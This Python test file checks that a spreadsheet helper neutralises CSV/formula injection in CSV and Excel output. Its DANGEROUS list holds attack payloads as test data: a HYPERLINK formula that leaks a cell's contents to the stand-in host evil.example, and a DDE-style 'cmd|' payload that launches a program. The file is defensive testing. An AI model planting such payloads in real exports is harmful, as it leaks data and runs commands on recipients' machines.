"""Spreadsheet cells that cannot carry a formula (CSV/formula injection), whatever a person typed."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from rownaq.core.spreadsheets import safe_cell, safe_row, xlsx_row

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?leak="&A1, "جزئیات")',
    "+98 25 1234",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_formula_like_text_gets_an_apostrophe_in_csv(text: str) -> None:
    buffer = io.StringIO()
    csv.writer(buffer).writerow(safe_row([text, "کاشی البرز"]))
    written = next(csv.reader(io.StringIO(buffer.getvalue())))
    assert written == ["'" + text, "کاشی البرز"]


@pytest.mark.parametrize("value", [-5, -2.5, 0, 12, None, "کاشی = سرامیک", "12-45", ""])
def test_numbers_and_plain_text_are_left_alone(value: object) -> None:
    assert safe_cell(value) == value


def test_an_excel_cell_is_never_a_formula_and_keeps_the_text() -> None:
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("s")
    sheet.append(xlsx_row(sheet, [*DANGEROUS, -5, 3.5, "کاشی"]))
    buffer = io.BytesIO()
    workbook.save(buffer)
    cells = next(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows())  # type: ignore[union-attr]
    assert [cell.data_type for cell in cells] == ["s"] * len(DANGEROUS) + ["n", "n", "s"]
    kept = [text.replace("\r", "\n") for text in DANGEROUS]  # XML reads a carriage return as a line feed
    assert [cell.value for cell in cells] == [*kept, -5, 3.5, "کاشی"]
    assert all(cell.quotePrefix for cell in cells[: len(DANGEROUS)])
